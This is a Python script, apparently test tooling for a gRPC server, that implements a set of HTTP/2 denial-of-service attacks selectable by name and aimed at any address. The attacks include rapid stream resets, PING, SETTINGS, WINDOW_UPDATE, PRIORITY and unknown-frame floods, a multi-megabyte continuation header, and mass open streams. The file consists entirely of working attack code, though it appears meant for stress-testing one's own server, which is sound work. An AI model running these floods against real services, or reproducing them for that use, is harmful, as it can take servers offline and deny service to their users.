# SPDX-License-Identifier: Apache-2.0
#
# Connections that do harm, each in a process of its own: `attacks.py NAME ADDRESS SECONDS`. Ends when the time is over, or when
# the server ends the connection, and prints how many units it has sent.
import sys
import threading
import time

from hyperframe.frame import (DataFrame, ExtensionFrame, HeadersFrame, PingFrame, PriorityFrame, RstStreamFrame,
                              SettingsFrame, WindowUpdateFrame)

import plain_grpc
from plain_grpc import CANCEL, PREFACE, header_block, header_frames

HEALTH_CHECK = "/grpc.health.v1.Health/Check"
LONG_HEADER_BYTES = 16_800_000


def begin(stream, block):
    """The frame that begins a call with a block of headers."""
    return HeadersFrame(stream, block, flags=["END_HEADERS"])


def packed(frames):
    """The bytes of frames."""
    return b"".join(frame.serialize() for frame in frames)


def connect(address):
    """A connection of HTTP/2 whose answers are taken and forgotten."""
    opened = plain_grpc.connect(address)
    opened.sendall(PREFACE + SettingsFrame().serialize())

    def take():
        try:
            while opened.recv(65536):
                pass
        except OSError:
            pass

    threading.Thread(target=take, daemon=True).start()
    return opened


def long_header(address, seconds):
    """One header of many megabytes, which the parser reads anew from its beginning with every frame."""
    connection = connect(address)
    block = header_block(HEALTH_CHECK, "localhost", [("x", "a" * LONG_HEADER_BYTES)])
    for frame in header_frames(1, block):
        connection.sendall(frame.serialize())
    time.sleep(seconds)
    return 1


def flood_with(frame, *start):
    """An attack that sends `frame` again and again, after `start`."""
    def flood(address, seconds):
        connection = connect(address)
        connection.sendall(packed(start))
        unit = frame.serialize()
        data = unit * (1_000_000 // len(unit))
        num_sent = 0
        end = time.monotonic() + seconds
        while time.monotonic() < end:
            connection.sendall(data)
            num_sent += len(data) // len(unit)
        return num_sent
    return flood


def resets(method, num_at_once):
    """An attack that begins calls and resets them, so many in one write and then the resets in the next."""
    def reset(address, seconds):
        connection = connect(address)
        block = header_block(method, "localhost")
        stream = 1
        end = time.monotonic() + seconds
        while time.monotonic() < end:
            streams = range(stream, stream + 2 * num_at_once, 2)
            stream = streams.stop
            connection.sendall(packed(begin(each, block) for each in streams))
            connection.sendall(packed(RstStreamFrame(each, CANCEL) for each in streams))
        return stream // 2
    return reset


def open_calls(method, num_connections, num_calls):
    """An attack that begins calls and leaves them open."""
    def leave_open(address, seconds):
        block = header_block(method, "localhost")
        calls = packed(begin(2 * i + 1, block) for i in range(num_calls))
        connections = []
        for _ in range(num_connections):
            connections.append(connect(address))
            connections[-1].sendall(calls)
        time.sleep(seconds)
        return len(connections) * num_calls
    return leave_open


CALL = begin(1, header_block(HEALTH_CHECK, "localhost"))
ATTACKS = {
    "long_header": long_header,
    "ping": flood_with(PingFrame(opaque_data=bytes(8))),
    "ping_ack": flood_with(PingFrame(opaque_data=bytes(8), flags=["ACK"])),
    "settings": flood_with(SettingsFrame(settings={SettingsFrame.INITIAL_WINDOW_SIZE: 65535})),
    "empty_data": flood_with(DataFrame(1), CALL),
    "small_windows": flood_with(WindowUpdateFrame(1, 1), CALL),
    "priority": flood_with(PriorityFrame(3, depends_on=1, stream_weight=1)),
    "resets": resets(plain_grpc.INFER, 100),
    "open_calls": open_calls(plain_grpc.STREAM_INFER, 100, 1000),
    "unknown": flood_with(ExtensionFrame(0xFE, 0)),
}


if __name__ == "__main__":
    try:
        print(ATTACKS[sys.argv[1]](sys.argv[2], float(sys.argv[3])))
    except OSError as error:
        print(f"the server ended the connection: {error}")
